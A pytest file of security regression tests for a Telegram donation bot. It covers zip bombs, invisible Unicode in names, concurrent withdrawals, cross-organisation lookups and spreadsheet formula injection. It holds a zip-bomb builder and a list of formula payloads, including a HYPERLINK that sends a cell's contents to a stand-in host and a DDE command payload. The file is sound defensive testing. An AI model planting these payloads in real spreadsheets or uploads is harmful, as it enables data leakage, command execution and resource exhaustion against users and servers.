"""What someone with a real account in the bot tries against its newest parts, as an outsider would: hostile
files sent as the bank's statement, forged and stale presses, roles taken away in the middle of a step, and
what is written to spreadsheets. Each test here failed before the fix it stands for."""

from __future__ import annotations

import functools
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError

from bot.app import App
from bot.db.models import AuditLog, Contribution, Person
from bot.domain.access import actor_for
from bot.domain.contributions import (
    LedgerError,
    NewContribution,
    decide,
    record_contribution,
    reverse,
    withdraw,
)
from bot.domain.people import remove_identity
from tests import test_telegram
from tests.support.clocks import NOW
from tests.support.profiles import on_text_only
from tests.test_donors import COMPANY, FLOOD, add_flood_drive, record_in_chat
from tests.test_drives import seed
from tests.test_queue_telegram import gifts_waiting
from tests.test_roles_in_chat import GRANT, LAN, make
from tests.test_telegram import Harness, join, joined, shown, text_of

tg = test_telegram.tg
harness = test_telegram.harness
polling = test_telegram.polling

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
LETTERS_AT_ONCE = 1024 * 1024


@functools.cache
def zip_bomb(letters: int) -> bytes:
    """A statement workbook of a few tens of KB whose one description cell unpacks to `letters` letters.
    Made once per size and test process: compressing 200 MB takes seconds, and the bytes are the same."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Ngày", "Nội dung", "Ghi có"])
    sheet.append(["15/11/2026", "CT-2026-000001 UNG HO", 500_000])
    plain = io.BytesIO()
    book.save(plain)
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, content, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
                continue
            # the letters written a megabyte at a time, never held whole: copying 200 MB into one cell and
            # then into the part took as long as compressing it (decision 2912)
            head, tail = content.split(b"</sheetData>")
            with target.open(item.filename, "w") as part:
                part.write(head + b'<row r="3"><c r="B3" t="inlineStr"><is><t>')
                for start in range(0, letters, LETTERS_AT_ONCE):
                    part.write(b"A" * min(LETTERS_AT_ONCE, letters - start))
                part.write(b"</t></is></c></row></sheetData>" + tail)
    return bomb.getvalue()


def far_columns(rows: int) -> bytes:
    """A statement workbook of a few hundred KB whose every row has a cell in Excel's last column (XFD)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Ngày", "Nội dung", "Ghi có"])
    sheet.append(["15/11/2026", "CT-2026-000001 UNG HO", 500_000])
    plain = io.BytesIO()
    book.save(plain)
    source = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    far = io.BytesIO()
    with zipfile.ZipFile(far, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, tail = content.split(b"</sheetData>")
                cells = b"".join(
                    b'<row r="%d"><c r="A%d"><v>1</v></c><c r="XFD%d"><v>1</v></c></row>' % (n, n, n)
                    for n in range(3, rows + 3)
                )
                content = head + cells + b"</sheetData>" + tail
            target.writestr(item, content, compress_type=zipfile.ZIP_DEFLATED)
    return far.getvalue()


async def a_gift_waiting(h: Harness, amount: int = 500_000) -> None:
    async with h.app.sessionmaker() as session, session.begin():
        giver = await session.scalar(select(Person).where(Person.full_name == "Phạm Minh Tuấn"))
        assert giver is not None
        entry = NewContribution(kind="money", amount_vnd=amount)
        await record_contribution(session, person=giver, recorded_by=giver, entry=entry, now=NOW)


async def test_a_zip_bomb_and_files_a_million_cells_wide_are_answered_at_once(polling: Harness) -> None:
    h = polling
    await a_gift_waiting(h)
    mai = h.tg.user(540, "Mai")
    await joined(h, mai, h.invites.treasurer, "Đặng Thị Mai")
    await h.ask(mai, "/xacnhan")
    await h.choose(mai, "Đối chiếu sao kê ngân hàng")

    # 200 KB that would unpack to 200 MB of one cell (and take the server's memory many times over)
    bomb = zip_bomb(200 * 1024 * 1024)
    assert len(bomb) < 300 * 1024
    screen = text_of(await h.reply(mai, await mai.send_document(bomb, "SaoKe.xlsx", XLSX)))
    assert "Không đọc được tệp này dưới dạng bảng tính" in screen
    assert "Số khoản tiền vào đã đọc" not in screen

    # a header row of a million cells, read in a moment (it was searched cell by cell, ~30 s, at each press)
    # 20,000 rows of a cell in column XFD: read as 16,384 cells each (over a minute), now as the few they hold
    screen = text_of(await h.reply(mai, await mai.send_document(far_columns(20_000), "SaoKe.xlsx", XLSX)))
    assert "Số khoản tiền vào đã đọc: 1." in screen

    header = "Ngày;Nội dung;Ghi có" + ";x" * 1_000_000
    wide = (header + "\n01/11/2026;CT-2026-000001 UNG HO;500000\n").encode()
    screen = text_of(await h.reply(mai, await mai.send_document(wide, "SaoKe.csv", "text/csv")))
    assert "Số khoản tiền vào đã đọc: 1." in screen


# --- hostile text ------------------------------------------------------------------------------------------

RLO, ZWSP, LRI, PDI, BOM = "\u202e", "\u200b", "\u2066", "\u2069", "\ufeff"
INVISIBLE = (RLO, ZWSP, LRI, PDI, BOM, "\u200e", "\u200f", "\u2060")


async def test_marks_that_turn_a_line_around_or_hide_in_a_name_are_not_kept_nor_shown(
    app: App, make_person
) -> None:
    """A right-to-left override in a donor's name turned the rest of the treasurer's line around (an amount
    read backwards), and a zero-width space made a second donor that looks like the first."""
    ids = await seed(app)
    await add_flood_drive(app, ids)
    hung, mai = make_person("hung"), make_person("mai")
    await hung.say("/menu")
    await record_in_chat(hung, COMPANY, public=True, drive=FLOOD, amount="10tr", note="-")
    twin = f"{RLO}Công ty TNHH{ZWSP} Minh{BOM} Phát{LRI}{PDI}"
    # 2tr beside 10tr: no tenth's mark to clip the name the line shows (decision 1648)
    screen = await record_in_chat(hung, twin, public=True, drive=FLOOD, amount="2tr", note=f"{RLO}ghi chú")
    assert f"Đã ghi nhận cho {COMPANY}: 2.000.000\xa0₫." in screen

    async with app.sessionmaker() as session:
        donors = list(await session.scalars(select(Person.full_name).where(Person.kind == "donor")))
        notes = list(await session.scalars(select(Contribution.note)))
    assert donors == [COMPANY]  # the same donor, found again, not a look-alike second one
    assert not any(mark in (note or "") for note in notes for mark in INVISIBLE)
    await mai.say("/xacnhan")
    screen = await mai.choose(FLOOD)
    # each note as the page says it (decision 2223): its words, its marks gone; “-” typed for none, not said
    assert f"2.000.000\xa0₫ · ghi chú · {COMPANY} (Khoa Nội)" in screen
    assert f"10.000.000\xa0₫ · {COMPANY} (Khoa Nội)" in screen
    assert not any(mark in screen for mark in INVISIBLE)


# --- two people at once ------------------------------------------------------------------------------------


@pytest.mark.parametrize("any_url", ["postgresql"], indirect=True)
async def test_a_gift_withdrawn_while_the_treasurer_has_it_open_is_not_confirmed_over_it(
    any_app: App,
) -> None:
    """The treasurer opened Lan's gift (its page read it as waiting); Lan took it back in her own chat; the
    treasurer's “Confirm” then wrote “confirmed” over her withdrawal (two audit rows, a withdrawn gift in the
    statement). On PostgreSQL two chats run side by side, so the press must read the entry again, locked."""
    ids = await seed(any_app)
    async with any_app.sessionmaker() as session, session.begin():
        lan = await session.get_one(Person, ids["lan"])
        entry = NewContribution(kind="money", amount_vnd=300_000)
        gift = await record_contribution(session, person=lan, recorded_by=lan, entry=entry, now=NOW)
        gift_id = gift.id

    async with any_app.sessionmaker() as treasurer, treasurer.begin():
        opened = await treasurer.get_one(Contribution, gift_id)  # the treasurer's page of the entry
        assert opened.status == "recorded"
        async with any_app.sessionmaker() as giver, giver.begin():
            hers = await giver.get_one(Contribution, gift_id)
            actor = await actor_for(giver, await giver.get_one(Person, ids["lan"]))
            await withdraw(giver, hers, actor=actor, now=NOW)
        mai = await actor_for(treasurer, await treasurer.get_one(Person, ids["mai"]))
        with pytest.raises(LedgerError) as refused:
            await decide(treasurer, opened, confirmed=True, actor=mai, now=NOW)
        assert refused.value.reason == "already_decided"

    async with any_app.sessionmaker() as session:
        final = await session.get_one(Contribution, gift_id)
        assert (final.status, final.decided_by) == ("rejected", ids["lan"])  # still “đã rút lại”
        actions = list(await session.scalars(select(AuditLog.action).where(AuditLog.entity_id == gift_id)))
        assert "contribution.confirmed" not in actions


async def test_two_reversals_of_one_gift_at_once_make_one_and_the_second_is_told_it_was_done(
    any_app: App,
) -> None:
    """Hùng presses “Hủy khoản” twice (two updates, handled side by side on PostgreSQL): the second used to
    find no reversal yet, write its own, and fail on the unique index, a crash-style answer. Now the entry is
    locked while a reversal is written, so the second waits for the first and then hears it was done."""
    if any_app.db.dialect.name != "postgresql":
        pytest.skip("SQLite takes one writer at a time: two reversals never overlap there")
    ids = await seed(any_app)
    async with any_app.sessionmaker() as session, session.begin():
        lan = await session.get_one(Person, ids["lan"])
        entry = NewContribution(kind="money", amount_vnd=300_000)
        gift = await record_contribution(session, person=lan, recorded_by=lan, entry=entry, now=NOW)
        mai = await actor_for(session, await session.get_one(Person, ids["mai"]))
        await decide(session, gift, confirmed=True, actor=mai, now=NOW)
        gift_id = gift.id

    async def press(session) -> str:  # type: ignore[no-untyped-def]
        hung = await actor_for(session, await session.get_one(Person, ids["hung"]))
        try:
            await reverse(
                session, await session.get_one(Contribution, gift_id), actor=hung, reason="x", now=NOW
            )
        except LedgerError as refused:
            return refused.reason
        return "reversed"

    async with any_app.sessionmaker() as first, first.begin():
        assert await press(first) == "reversed"  # not yet committed
        async with any_app.sessionmaker() as second, second.begin():  # the second press meets the lock
            locked = text("SELECT id FROM contribution WHERE id = :id FOR NO KEY UPDATE NOWAIT")
            with pytest.raises(DBAPIError, match="lock"):
                await second.execute(locked, {"id": gift_id})
    async with any_app.sessionmaker() as second, second.begin():  # once the first is done
        assert await press(second) == "already_reversed"
    async with any_app.sessionmaker() as session:
        reversals = await session.scalars(select(Contribution).where(Contribution.reverses_id == gift_id))
        assert len(list(reversals)) == 1


# --- nothing crosses organisations ----------------------------------------------------------------------


@on_text_only
async def test_someone_of_another_organisation_learns_nothing_of_a_code_not_even_that_it_is_confirmed(
    app: App, make_person
) -> None:
    """A member may type anyone's code and hear “confirmed” (it stands on the public statement); a member of
    another organisation typing codes in turn learnt which of another organisation's gifts stood."""
    ids = await seed(app)
    async with app.sessionmaker() as session, session.begin():
        lan = await session.get_one(Person, ids["lan"])
        entry = NewContribution(kind="money", amount_vnd=300_000)
        gift = await record_contribution(session, person=lan, recorded_by=lan, entry=entry, now=NOW)
        mai = await actor_for(session, await session.get_one(Person, ids["mai"]))
        await decide(session, gift, confirmed=True, actor=mai, now=NOW)
        ref = gift.ref
    tam, vy = make_person("tam"), make_person("vy")
    await tam.say("/menu")
    assert f"{ref}: đã xác nhận." in await tam.say(f"/tracuu {ref}")  # the same organisation
    await vy.say("/menu")
    screen = await vy.say(f"/tracuu {ref}")
    assert "đã xác nhận" not in screen and f"{ref}: không tìm thấy" in screen


async def test_a_percent_sign_or_an_underscore_typed_as_a_name_finds_nobody_not_everybody(
    app: App, make_person
) -> None:
    """SQL LIKE's wildcards typed where a name is searched are letters like any other (held: this test passed
    as written; kept so that a search written without escaping is caught)."""
    ids = await seed(app)
    await make(app, ids, "tam", "admin", None)
    tam = make_person("tam")
    await tam.say("/phanquyen")
    await tam.choose(GRANT)
    for typed in ("%", "_", "%n%", "l_n"):
        screen = await tam.say(typed)
        assert LAN not in screen and "Lê Văn Hùng" not in screen, typed
    assert LAN in await tam.say("lan")


# --- what we write to spreadsheets ----------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://x.example/?q="&A1,"Bấm")',
    "@SUM(A1:A9)",
    "+1+1",
    "-1+1",
    '=cmd|" /C calc"!A0',
)


async def test_donor_names_typed_as_formulas_are_text_in_the_collectors_handover_list(
    app: App, make_person
) -> None:
    """Held: each name reaches the handover list as the text typed, behind a quote, never a formula."""
    ids = await seed(app)
    await add_flood_drive(app, ids)
    hung = make_person("hung")
    await hung.say("/menu")
    for number, name in enumerate(FORMULAS, start=1):
        await record_in_chat(hung, name, public=False, drive=FLOOD, amount=f"{number}00k", note="-")
    await hung.say("/daghithay")
    await hung.choose("Bảng kê nộp tiền (Excel)")
    [handed] = hung.channel.transport.documents("hung")
    assert handed.document is not None
    sheet = load_workbook(app.settings.media_dir / handed.document.path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    givers = {cell.value for cell in cells if cell.column == 2}
    assert {"'" + name for name in FORMULAS} <= givers


async def test_markdown_and_html_typed_arrive_as_typed_with_no_parse_mode(polling: Harness) -> None:
    """Held: the bot sends plain text (no parse mode), so Markdown or HTML typed by someone neither breaks a
    message (Telegram refuses one whose entities do not close) nor turns into a link."""
    h = polling
    hoa = h.tg.user(541, "Hoa")
    assert "họ và tên" in await h.ask(hoa, f"/start {h.invites.member}")
    typed = "*Võ_Thị* <b>Hoa</b> [x](http://e.example) `"
    screen = await h.ask(hoa, typed)
    assert "chỉ gồm chữ (ví dụ: Nguyễn Văn An)" in screen  # a kind answer with an example of a name
    await h.ask(hoa, "Võ Thị Hoa")
    await h.choose(hoa, "Tham gia với tên này")  # a name on no list
    await h.choose(hoa, "Tôi đồng ý")
    await h.choose(hoa, "Tiếng Việt")
    sent = [call for call in h.tg.calls if call.method in ("sendMessage", "editMessageText")]
    assert sent and not any("parse_mode" in call.params for call in sent)


async def test_a_file_sent_where_no_step_asks_for_one_is_not_downloaded_nor_kept(polling: Harness) -> None:
    """Anyone could make the bot download and keep, for ever, file after file of 5 MB: someone who never
    joined, or a member at the main menu. Only the step that asks for the bank statement takes a file."""
    h = polling
    stranger = h.tg.user(543, "Người lạ")
    csv = "Ngày;Nội dung;Ghi có\n01/11/2026;CT-2026-000001 UNG HO;500000\n".encode()
    await h.reply(stranger, await stranger.send_document(csv + b"1", "a.csv", "text/csv"))
    hoa = h.tg.user(544, "Hoa")
    await joined(h, hoa, h.invites.member)
    screen = text_of(await h.reply(hoa, await hoa.send_document(csv + b"2", "b.csv", "text/csv")))
    # told, as a receipt sent as a file is (decision 0352), that it is not kept, and shown the menu again
    assert "tệp (b.csv) không lưu được làm minh chứng" in screen and "Anh/chị cần làm gì?" in screen
    assert h.tg.downloads == [] and not list(h.app.settings.media_dir.rglob("*.csv"))

    await a_gift_waiting(h)
    mai = h.tg.user(545, "Mai")
    await joined(h, mai, h.invites.treasurer, "Đặng Thị Mai")
    await h.ask(mai, "/xacnhan")
    await h.choose(mai, "Đối chiếu sao kê ngân hàng")
    screen = text_of(await h.reply(mai, await mai.send_document(csv, "SaoKe.csv", "text/csv")))
    assert "Số khoản tiền vào đã đọc: 1." in screen and len(h.tg.downloads) == 1


async def test_a_photo_from_someone_who_never_joined_is_not_downloaded(polling: Harness) -> None:
    """Evidence photos are records, kept for ever: someone who never joined sending photo after photo of 10 MB
    had each downloaded and kept. A member's photo (a receipt at the main menu) still is."""
    h = polling
    stranger = h.tg.user(546, "Người lạ")
    screen = text_of(await h.reply(stranger, await stranger.send_photo(b"\xff\xd8\xff stranger")))
    assert "mã mời" in screen  # asked for the invite code, as for any message before joining
    assert h.tg.downloads == [] and not [p for p in h.app.settings.media_dir.rglob("*") if p.is_file()]

    hoa = h.tg.user(547, "Hoa")
    await join(h, hoa, h.invites.member)
    await h.reply(hoa, await hoa.send_photo(b"\xff\xd8\xff receipt"))
    assert len(h.tg.downloads) == 1


async def test_a_phone_taken_off_by_the_office_turns_no_page_of_the_treasurers_queue(
    polling: Harness,
) -> None:
    """Mai's phone was lost with her queue on screen, twelve gifts on two pages of buttons; the office took
    that Telegram account off. Every message from it is answered only with that news, but “Sau ›” still
    drew the queue's second page: six more givers' names and amounts, to whoever holds the phone. Now a
    page turn from an account that is no longer one's own turns nothing."""
    h = polling
    await gifts_waiting(h, 12)
    mai = h.tg.user(523, "Mai")
    await joined(h, mai, h.invites.treasurer, "Đặng Thị Mai")
    await h.ask(mai, "/xacnhan")
    assert "trang 1/2" in await h.choose(mai, "Quỹ")
    queue = mai.last
    assert "Sau ›" in queue.labels and not any("CT-2026-000007" in label for label in queue.labels)
    async with h.app.sessionmaker() as session, session.begin():
        await remove_identity(
            session, channel="telegram", external_id=str(mai.id), actor_id=None, now=h.app.engine.clock()
        )
    await h.stored(await mai.press("Sau ›", queue.message_id))
    still = shown(mai, queue.message_id)
    assert not any("CT-2026-000007" in label for label in still.labels) and "‹ Trước" not in still.labels
    assert "gỡ khỏi Chung Tay" in await h.ask(mai, "/xacnhan")  # and every message is told so, as before


async def test_a_phone_taken_off_at_the_bank_statements_question_has_no_file_downloaded_or_kept(
    polling: Harness,
) -> None:
    """Mai's phone was lost at “gửi sao kê … dưới dạng tệp”, and the office took that account off. The step
    on screen still asked for a file, so every spreadsheet sent from the phone was downloaded and kept for
    ever, each up to 5 MB, to be answered only that the account was taken off: whoever holds the phone
    fills the server's disk. Now a file from an account taken off is not downloaded."""
    h = polling
    await a_gift_waiting(h, 200_000)
    mai = h.tg.user(524, "Mai")
    await joined(h, mai, h.invites.treasurer, "Đặng Thị Mai")
    await h.ask(mai, "/xacnhan")
    assert "dưới dạng tệp" in await h.choose(mai, "Đối chiếu sao kê ngân hàng")
    async with h.app.sessionmaker() as session, session.begin():
        await remove_identity(
            session, channel="telegram", external_id=str(mai.id), actor_id=None, now=h.app.engine.clock()
        )
    downloads = len(h.tg.downloads)
    sent = await mai.send_document(b"PK" + b"0" * 4096, "sao-ke.xlsx", XLSX)
    assert "gỡ khỏi Chung Tay" in text_of(await h.reply(mai, sent))
    assert len(h.tg.downloads) == downloads and not list(h.app.settings.media_dir.rglob("*.xlsx"))
